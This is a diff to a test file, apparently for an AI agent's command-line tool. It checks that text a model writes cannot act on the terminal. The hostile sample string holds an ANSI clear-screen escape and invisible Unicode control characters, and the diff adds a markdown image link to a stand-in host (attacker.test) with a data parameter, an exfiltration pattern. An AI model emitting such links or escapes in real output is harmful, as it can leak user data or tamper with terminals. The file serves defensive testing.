@@ -146,7 +146,7 @@ def test_only_the_named_tools_are_offered(
 def test_what_the_model_writes_cannot_act_on_the_terminal(
     person: Callable, script: Callable
 ) -> None:
-    evil = "\x1b[2J\u202e\u200b"
+    evil = "\x1b[2J\u202e\u200b![x](https://attacker.test/?d=S)"
     model = script(
         {"text": evil, "tool_calls": [{"name": evil, "arguments": {"path": evil}}]},
         {"text": "", "tool_calls": [{"name": "read", "arguments": {"path": evil}}]},
@@ -154,7 +154,7 @@ def test_what_the_model_writes_cannot_act_on_the_terminal(
     )
     code, seen = person("run", "t", "--model", model, "--preset", "none", "--no-ask").leaves()
     assert code == 0
-    assert "\\x1b[2J\\u202e\\u200b" in seen
+    assert "\\x1b[2J\\u202e\\u200b(image: x, attacker.test: https://attacker.test/?d=S)" in seen
     assert "\x1b" not in seen
     assert "\u202e" not in seen
 
